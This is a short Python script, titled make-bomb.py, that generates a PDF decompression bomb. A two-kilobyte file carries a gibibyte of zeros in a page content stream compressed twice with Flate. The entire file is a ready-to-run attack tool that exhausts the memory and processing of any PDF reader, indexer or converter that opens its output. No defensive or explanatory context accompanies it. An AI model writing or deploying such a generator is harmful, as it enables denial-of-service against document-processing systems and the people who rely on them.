"""make-bomb.py FILE - a PDF of two kilobytes whose one page draws a gibibyte."""
import sys
import zlib

packer = zlib.compressobj(9)
zeros = b"0" * (1 << 20)
content = b"".join(packer.compress(zeros) for _ in range(1 << 10)) + packer.flush()
content = zlib.compress(content, 9)
objects = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
    b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(content) + content + b"\nendstream",
]
pdf, table = b"%PDF-1.5\n", b"0000000000 65535 f \n"
for number, body in enumerate(objects, 1):
    table += b"%010d 00000 n \n" % len(pdf)
    pdf += b"%d 0 obj\n" % number + body + b"\nendobj\n"
end = len(pdf)
pdf += b"xref\n0 5\n" + table + b"trailer << /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % end
open(sys.argv[1], "wb").write(pdf)
